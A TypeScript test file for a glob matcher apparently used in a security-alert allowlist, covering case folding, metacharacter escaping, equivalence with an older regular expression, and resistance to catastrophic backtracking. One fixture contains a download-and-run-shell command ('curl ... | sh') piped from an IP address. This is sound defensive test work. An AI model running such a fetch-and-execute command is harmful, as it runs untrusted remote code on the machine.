import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { compileGlob } from './glob.js';

/** The regular expression allowlist patterns used to be compiled to (backtracking on `.*`). */
function oldRegExp(pattern: string): RegExp {
  const escaped = pattern.replace(/[.+?^${}()|[\]\\]/g, '\\$&').replace(/\*/g, '.*');
  return new RegExp(`^${escaped}$`, 'i');
}

describe('compileGlob', () => {
  it('matches whole values, ignores case, * is any run of characters', () => {
    expect(compileGlob('defender/*').test('defender/root-cron-logon')).toBe(true);
    expect(compileGlob('defender/*').test('vendor/defender/x')).toBe(false);
    expect(compileGlob('WEB-*').test('web-01')).toBe(true);
    expect(compileGlob('/opt/microsoft/*').test('/opt/microsoft/mdatp/sbin/wdavdaemon')).toBe(true);
    expect(compileGlob('a.b').test('axb')).toBe(false);
    expect(compileGlob('a.b').test('A.B')).toBe(true);
    expect(compileGlob('(x)+[y]?').test('(X)+[Y]?')).toBe(true);
    expect(compileGlob('*').test('')).toBe(true);
    expect(compileGlob('a**b').test('ab')).toBe(true);
    expect(compileGlob('*.sh').test('/tmp/run.sh\n')).toBe(false);
    expect(compileGlob('ÉTÉ*').test('été 2025')).toBe(true);
  });

  it('lets * span line breaks (the regular expression did not)', () => {
    expect(compileGlob('curl *| sh').test('curl http://198.51.100.2/a\n| sh')).toBe(true);
  });

  it('gives the answers of the old regular expression on small inputs', () => {
    // Alphabet with letters of both cases, regex metacharacters, non-ASCII letters whose case
    // mappings are special (ſ, K, ß, İ) and the star; no line terminators (see the test above).
    const chars = [
      'a',
      'A',
      'b',
      'B',
      '*',
      '.',
      '/',
      '?',
      '+',
      '(',
      ')',
      '[',
      ']',
      '\\',
      '^',
      '$',
      'ſ',
      's',
      'S',
      'K',
      'k',
      'ß',
      'İ',
      'i',
      'é',
      'É',
    ];
    const text = fc.array(fc.constantFrom(...chars.filter((c) => c !== '*')), { maxLength: 12 }).map((a) => a.join(''));
    const pattern = fc.array(fc.constantFrom(...chars), { maxLength: 8 }).map((a) => a.join(''));
    fc.assert(
      fc.property(pattern, text, (p, t) => {
        expect(compileGlob(p).test(t)).toBe(oldRegExp(p).test(t));
      }),
      { numRuns: 5000, seed: 14 },
    );
  });

  // Sized so that a backtracking matcher (cubic on these inputs) would run for hours and hit the test
  // timeout, while the linear matcher takes milliseconds: the check holds on a loaded machine without
  // measuring time.
  it('answers patterns that made the regular expression backtrack, on inputs a backtracking matcher could not finish', () => {
    const key = `path:${'/tmp/'.repeat(4000)}s1`;
    for (let i = 0; i < 20; i++) expect(compileGlob('path:*/tmp/*/*.sh').test(key)).toBe(false);
    expect(compileGlob('*a*a*a*b*').test('a'.repeat(20_000))).toBe(false);
    expect(compileGlob('*a*a*b*').test('a'.repeat(100_000))).toBe(false);
  }, 60_000);
});
